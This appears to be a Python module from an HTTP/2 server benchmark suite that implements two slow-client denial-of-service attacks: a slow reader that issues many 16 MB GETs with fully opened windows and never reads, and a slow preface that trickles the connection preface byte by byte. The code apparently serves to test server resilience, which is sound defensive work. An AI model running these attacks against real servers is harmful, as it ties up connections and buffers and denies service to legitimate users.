"""Slow clients: they cost the server a connection, buffers and time, not bytes.

* **Slow reader** (the HTTP/2 form of slowloris' "slow read", CVE-2019-9517
  "internal data buffering" is its flood cousin): many large GETs with the
  largest windows a client can grant (RFC 9113 §6.9.2), then never a read.
  Flow control cannot help, the client allowed everything: only the server's
  own buffering limits and a timer can.
* **Slow preface**: the 24-byte client preface (§3.4), one byte every 0.5 s.
  A server that resets its idle timer on every byte never closes it.
"""

from __future__ import annotations

import time

from benchmarks.attacks.attacker import Attacker
from benchmarks.attacks.model import Context, Outcome
from benchmarks.attacks.wire import CONNECTION_PREFACE, OPEN_WINDOWS, headers_frame, request_block

__all__ = ["slow_preface", "slow_reader"]

TRICKLE = 0.5  # seconds between two bytes of the slow preface
READER_RCVBUF = 4096  # the slow reader's receive buffer (the kernel doubles it)
LARGE = 16 * 1024 * 1024  # bytes each of the slow reader's GETs asks for


def slow_reader(ctx: Context) -> Outcome:
    """`ctx.size` GETs of /bytes/16777216 with open windows, then wait without reading."""
    attacker = Attacker(ctx, rcvbuf=READER_RCVBUF)
    try:
        attacker.handshake(OPEN_WINDOWS)
        block = request_block(f"/bytes/{LARGE}")
        attacker.send(
            b"".join(headers_frame(i, block, end_stream=True) for i in range(1, 2 * ctx.size, 2))
        )
        asked = time.monotonic()
        closed = attacker.wait_closed(ctx.seconds, read=False)
        waited = time.monotonic() - asked
        if closed:
            text = f"connection ended by the server {waited:.1f} s after the last request"
        else:
            text = f"still open {waited:.1f} s after the last request"
        return Outcome(
            text,
            ctx.size,
            stopped=closed,
            held=waited if closed else None,
            details={"requested_bytes": ctx.size * LARGE},
        )
    finally:
        attacker.close()


def slow_preface(ctx: Context) -> Outcome:
    """The preface one byte at a time, every 0.5 s, for at most `ctx.seconds`."""
    attacker = Attacker(ctx)
    try:
        deadline = time.monotonic() + ctx.seconds
        sent = 0
        for byte in CONNECTION_PREFACE:
            if time.monotonic() >= deadline or not attacker.send(bytes([byte])):
                break
            sent += 1
            attacker.read_until(None, min(TRICKLE, max(deadline - time.monotonic(), 0)))
            if attacker.closed:
                break
        of = f"{sent} of {len(CONNECTION_PREFACE)} preface bytes"
        if attacker.closed:
            text = f"connection closed after {attacker.open_for:.1f} s ({of})"
        else:
            text = f"still open after {attacker.open_for:.1f} s ({of})"
        held = attacker.open_for if attacker.closed else None
        return Outcome(text, sent, stopped=attacker.closed, held=held)
    finally:
        attacker.close()
